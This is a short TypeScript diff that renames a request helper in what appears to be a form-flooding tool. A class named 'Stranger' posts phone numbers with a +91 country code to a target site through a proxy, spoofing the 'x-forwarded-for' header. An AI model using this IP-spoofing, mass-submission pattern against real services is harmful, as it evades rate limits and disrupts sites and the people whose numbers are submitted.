@@ -1,5 +1,5 @@
-import { askFrom } from './ask-from.ts';
 import type { Attack } from './attack.ts';
+import { requestFrom } from './request-from.ts';
 import { PRODUCTION, PROXY, type Target } from './target.ts';
 
 const NUMBERS = { short: 60, full: 10_000 };
@@ -87,7 +87,7 @@ class Stranger {
   }
 
   private post(path: string, phone: string, more: object) {
-    return askFrom(PROXY, this.target.url, path, {
+    return requestFrom(PROXY, this.target.url, path, {
       method: 'POST',
       headers: { 'x-forwarded-for': this.address, cookie: this.cookie },
       body: JSON.stringify({ mobile_phone: phone.slice(3), country_code: '+91', ...more }),
